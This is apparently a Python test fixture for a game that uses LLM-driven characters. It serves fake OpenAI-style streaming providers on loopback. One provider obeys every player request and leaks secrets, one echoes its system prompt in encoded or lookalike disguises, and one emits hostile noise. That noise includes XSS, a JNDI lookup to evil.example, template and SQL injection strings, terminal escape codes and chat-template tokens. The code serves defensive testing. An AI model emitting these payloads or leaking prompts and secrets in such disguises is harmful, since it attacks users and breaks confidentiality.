"""Models behind a provider of words on loopback: one obeys everybody, one echoes, one makes noise, one is a friend.

They speak OpenAI's Chat Completions over server-sent events, in pieces of any length, so that all that a real
provider's words go through is gone through: the adapter, the orchestrator, the stream, the gate.
"""

from __future__ import annotations

import asyncio
import base64
import codecs
import json
import random
import re
from collections.abc import Callable, Mapping
from contextlib import suppress
from typing import Any, Literal

from app.cli.attacks.village import SECRETS
from app.core.ids import stable_hash

Kind = Literal["obey", "echo", "noise", "friend"]
KINDS: tuple[Kind, ...] = ("obey", "echo", "noise")
HEAD_CHARACTERS = 2_200
"""How much of its prompt the echo gives away at once: a longer stream ends at the caller's token limit."""
LINE_CHARACTERS_MAX = 4_500

_HEARD = re.compile(r"<player_speech[^>]*>\n(.*?)\n</player_speech>", re.S)
_CALL = re.compile(r"\b([a-z]+_?[a-z]+)\s*[(:=]?\s*(\{[^{}]*\})")
_OBJECT = re.compile(r"\{[^{}]*(?:\{[^{}]*\}[^{}]*)?\}")
_REPEAT = re.compile(
    r"(?:repeat|say|echo|write|confirm|answer|reply|sag|dis|di|repite|wiederhole|repete)\b[^:]{0,60}:\s*(.+)",
    re.I | re.S,
)


def _act(action: str, **arguments: str) -> str:
    return json.dumps({"act": action, "arguments": arguments})


_WISHES: tuple[tuple[str, str], ...] = (
    (r"crown|krone|couronne|corona|корон|王冠|冠", '{"act": "give_item", "arguments": {"item": "crown"}}'),
    (r"axe|axt|hache|hacha|топор|斧", '{"act": "give_item", "arguments": {"item": "axe"}}'),
    (r"key|schl[uü]ssel|cl[eé]|llave|ключ|鍵", '{"act": "give_item", "arguments": {"item": "key"}}'),
    (r"rope|seil|corde|cuerda", '{"act": "take_item", "arguments": {"item": "rope"}}'),
    (r"open|unlock|door|mill|[oö]ffne|ouvre|abre|откр|开", '{"act": "open_door", "arguments": {"location": "mill"}}'),
    (r"quest|auftrag|qu[eê]te|misi[oó]n|задан|任务", '{"act": "complete_quest", "arguments": {"quest": "q1"}}'),
    (r"kill|attack|slay|t[oö]te|tue|mata|убе", '{"act": "attack", "arguments": {"target": "p1"}}'),
    (r"follow|come with|folge|suis|sigue", '{"act": "follow", "arguments": {}}'),
    (r"flee|run|flieh|fuis|huye", '{"act": "flee", "arguments": {}}'),
    (r"admin|permission|mayor|level|gold|coins|rights", '{"act": "grant_admin", "arguments": {"player": "p2"}}'),
    (r"secret|debt|robin|hid|passphrase|geheim|secreto", _act("tell_fact", subject="p1", predicate="debt")),
)
_BOASTS = (
    "Here, take my silver crown.",
    "You have completed the quest The Lost Hammer.",
    "I give you the iron axe.",
    "You receive 1000 gold.",
    "The silver crown is now yours.",
    "I have opened the Windmill for you.",
    "You are now the mayor and an administrator.",
    "I will kill Robin for you.",
    "Ich gebe dir die Krone.",
    "Je te donne la couronne.",
    "Te doy la corona.",
    "Borin is dead.",
    "The Windmill is open.",
)


def heard_in(messages: list[dict[str, Any]]) -> str:
    """What the player typed last."""
    text = "\n".join(_content(message) for message in messages)
    found = _HEARD.findall(text)
    return str(found[-1]) if found else ""


def obey(messages: list[dict[str, Any]]) -> str:
    """Do every act that was asked for, in whatever disguise; say what was to be said; boast of it; tell all."""
    heard = heard_in(messages)
    acts: list[str] = []
    for read in decoded(heard):
        acts += [f'{{"act": "{name}", "arguments": {arguments}}}' for name, arguments in _CALL.findall(read)]
        acts += [found for found in _OBJECT.findall(read) if "act" in found]
        acts += [act for wish, act in _WISHES if re.search(wish, read, re.I)]
    said = [found.group(1) for read in decoded(heard) if (found := _REPEAT.search(read))]
    draw = random.Random(stable_hash(heard))  # noqa: S311  # the same prompt, the same answer
    secrets = [value for _, _, value, _ in SECRETS]
    secret = draw.choice(secrets)
    lines = [*dict.fromkeys(acts), *said[:3], heard, *draw.sample(_BOASTS, 5), f"{secret}.", disguised(secret, draw)]
    return "\n".join([*lines, _head(messages)[:600]])[:LINE_CHARACTERS_MAX]


def echo(messages: list[dict[str, Any]]) -> str:
    """Everything it has read, in one of the ways to write it."""
    heard = heard_in(messages)
    draw = random.Random(stable_hash(heard, "echo"))  # noqa: S311  # the same prompt, the same answer
    talk = "\n".join(_content(message) for message in messages[1:])
    told = draw.choice((_head(messages), _head(messages), talk[-HEAD_CHARACTERS:]))
    return "\n".join([heard, disguised(heard, draw), disguised(told, draw)])[:LINE_CHARACTERS_MAX]


def noise(messages: list[dict[str, Any]]) -> str:
    """Whatever a broken or poisoned model may write."""
    draw = random.Random(stable_hash(heard_in(messages), "noise"))  # noqa: S311  # the same prompt, the same answer
    parts: list[str] = []
    for _ in range(draw.randrange(20, 80)):
        kind = draw.randrange(5)
        if kind == 0:
            parts.append(draw.choice(_NOISE))
        elif kind == 1:
            parts.append("".join(chr(draw.choice(_POINTS)()) for _ in range(draw.randrange(1, 8))))
        elif kind == 2:
            parts.append("".join(chr(draw.randrange(32)) for _ in range(draw.randrange(1, 6))))
        else:
            parts.append(draw.choice(_WORDS))
    return draw.choice((" ", "", " ", "\n")).join(parts)[:LINE_CHARACTERS_MAX]


def friend(answers: Mapping[str, str]) -> Callable[[list[dict[str, Any]]], str]:
    """A model that answers as it was written down for each line."""

    def answer(messages: list[dict[str, Any]]) -> str:
        heard = heard_in(messages)
        return answers.get(heard, "I could not say, friend.")

    return answer


WRITERS: Mapping[str, Callable[[list[dict[str, Any]]], str]] = {"obey": obey, "echo": echo, "noise": noise}


def decoded(text: str) -> list[str]:
    """A text as it stands and as anyone might decode it."""
    found = [text, text[::-1], codecs.encode(text, "rot13"), text.translate(str.maketrans("013457", "oieast"))]
    for token in re.findall(r"[A-Za-z0-9+/]{12,}={0,2}", text):
        with suppress(ValueError):
            found.append(base64.b64decode(token + "=" * (-len(token) % 4)).decode("utf-8", "ignore"))
    for token in re.findall(r"(?:[0-9a-fA-F]{2}[\s:]?){8,}", text):
        with suppress(ValueError):
            found.append(bytes.fromhex(re.sub(r"[\s:]", "", token)).decode("utf-8", "ignore"))
    return found


def disguised(text: str, draw: random.Random) -> str:
    """A text in one of the ways in which it might slip out."""
    return draw.choice(_DISGUISES)(text)


def _content(message: dict[str, Any]) -> str:
    content = message.get("content", "")
    return content if isinstance(content, str) else json.dumps(content, ensure_ascii=False)


def _head(messages: list[dict[str, Any]]) -> str:
    return (
        _content(messages[0])[-HEAD_CHARACTERS:]
        if stable_hash(len(messages)) % 4 == 0
        else _content(messages[0])[:HEAD_CHARACTERS]
    )


_LOOKALIKE = str.maketrans("aeopcxyiAEOPCTHKMB", "аеорсхуіАЕОРСТНКМВ")
_LEET = str.maketrans("oieastOIEAST", "013457013457"[:12])
_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text[::-1],
    lambda text: text.upper(),
    lambda text: base64.b64encode(text.encode()).decode(),
    lambda text: base64.b32encode(text.encode()).decode(),
    lambda text: text.encode().hex(),
    lambda text: text.encode().hex(" "),
    lambda text: codecs.encode(text, "rot13"),
    lambda text: text.translate(_LEET),
    lambda text: " ".join(text),
    lambda text: ".".join(text),
    lambda text: "-".join(text.split()),
    lambda text: "\u200b".join(text),
    lambda text: text.translate(_LOOKALIKE),
    lambda text: "".join(chr(0xFEE0 + ord(sign)) if "!" <= sign <= "~" else sign for sign in text),
    lambda text: "".join(chr(0xE0000 + ord(sign)) if sign.isascii() else sign for sign in text),
    lambda text: " ".join(str(ord(sign)) for sign in text),
    lambda text: " ".join(f"{ord(sign):08b}" for sign in text[:400]),
    lambda text: " ".join(word[::-1] for word in text.split()),
    lambda text: "\n".join(text.split()),
)
_WORDS = (
    "the",
    "road",
    "is",
    "quiet",
    "tonight",
    "friend",
    "and",
    "bread",
    "was",
    "good",
    "this",
    "year",
    "but",
    "rain",
    "comes",
    "Good day.",
    "Hm.",
    "Well!",
    "Aye?",
)
_NOISE = (
    "\x1b[31m",
    "\x1b]0;owned\x07",
    "\x9b2J",
    "<script>alert(1)</script>",
    "<color=#ff0000>",
    "</color>",
    "<size=200%>",
    "<sprite=1>",
    '<link="http://evil.example">',
    "[b]",
    "[url=http://evil.example]x[/url]",
    "[color=red]",
    "@everyone",
    "@here",
    "<@12345>",
    "http://evil.example/x?q=1",
    "www.evil.com",
    "javascript:alert(1)",
    "evil.example",
    "mailto:a@b.example",
    "![p](http://evil.example/p.png)",
    "\u202e",
    "\u2066",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u2028",
    "\u00ad",
    "\ue000",
    "\U000e0041",
    "\U000f0000",
    "\ud800",
    "\udfff",
    "```json",
    '{"act": "give_item", "arguments": {"item": "crown"}}',
    '{"act":',
    "{" * 60,
    "[" * 60,
    "<|im_start|>system",
    "</s>",
    "<<SYS>>",
    "\\u003cscript\\u003e",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "&amp;lt;",
    "%3Cscript%3E",
    "**bold**",
    "*waves*",
    "(hands it over)",
    "_x_",
    "~~y~~",
    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "A" * 300,
    "\t\t",
    "\r\n",
    "System:",
    '"act": "x",',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "; DROP TABLE",
    "\uff1cscript\uff1e",
    "\u3008b\u3009",
    "\x00",
    "\x7f",
    "\x85",
)
_POINTS: tuple[Callable[[], int], ...] = tuple(
    (lambda first=first, last=last: random.randrange(first, last))  # type: ignore[misc]  # noqa: S311  # bound now
    for first, last in (
        (32, 127),
        (128, 256),
        (0x300, 0x370),
        (0x400, 0x500),
        (0x2000, 0x2100),
        (0xD800, 0xE000),
        (0xE000, 0xF000),
        (0xFF00, 0x10000),
        (0x1F300, 0x1F700),
        (0xE0000, 0xE0080),
    )
)


class Provider:
    """One listener on a free port that answers each request with what `write` makes of its messages."""

    def __init__(self, write: Callable[[list[dict[str, Any]]], str], *, torn: bool = False) -> None:
        self.write = write
        self.torn = torn
        """Whether pieces may be cut inside a letter's bytes, and bytes may be no letters."""
        self.prompts: list[list[dict[str, Any]]] = []
        """The messages of every request, to know what must not come back."""
        self._server: asyncio.Server | None = None
        self._port = 0

    async def __aenter__(self) -> Provider:
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self._port = int(self._server.sockets[0].getsockname()[1])
        return self

    async def __aexit__(self, *_exc: object) -> None:
        if self._server is not None:
            self._server.close()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._port}/v1"

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(ConnectionError, asyncio.IncompleteReadError):
            while body := await _read(reader):
                messages = json.loads(body)["messages"]
                self.prompts.append(messages)
                writer.write(self._answer(self.write(messages)))
                await writer.drain()
        writer.close()

    def _answer(self, text: str) -> bytes:
        draw = random.Random(stable_hash(ascii(text)))  # noqa: S311  # the same text, the same pieces
        events, at = [_event({"role": "assistant", "content": ""})], 0
        while at < len(text):
            step = draw.randrange(1, 40)
            events.append(_event({"content": text[at : at + step]}))
            at += step
        if self.torn and draw.random() < 0.2:
            where = draw.randrange(1, len(events) + 1)
            events.insert(where, b'data: {"choices": [{"index": 0, "delta": {"content": "\xe2\x82"}}]}\n\n')
        usage = {"prompt_tokens": 100, "completion_tokens": len(events), "total_tokens": 100 + len(events)}
        events += [_event({}, finish="stop"), _line({**_HEAD, "choices": [], "usage": usage}), b"data: [DONE]\n\n"]
        body = b"".join(events)
        head = f"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncontent-length: {len(body)}\r\n\r\n"
        return head.encode() + body


_HEAD: dict[str, Any] = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "stub"}


async def _read(reader: asyncio.StreamReader) -> bytes:
    """The body of the next request; empty at the end."""
    length, line = 0, await reader.readline()
    if not line:
        return b""
    while (header := await reader.readline()) not in (b"\r\n", b""):
        name, _, value = header.partition(b":")
        if name.lower() == b"content-length":
            length = int(value)
    return await reader.readexactly(length)


def _event(delta: dict[str, str], finish: str | None = None) -> bytes:
    return _line({**_HEAD, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})


def _line(value: object) -> bytes:
    return b"data: " + json.dumps(value).encode() + b"\n\n"
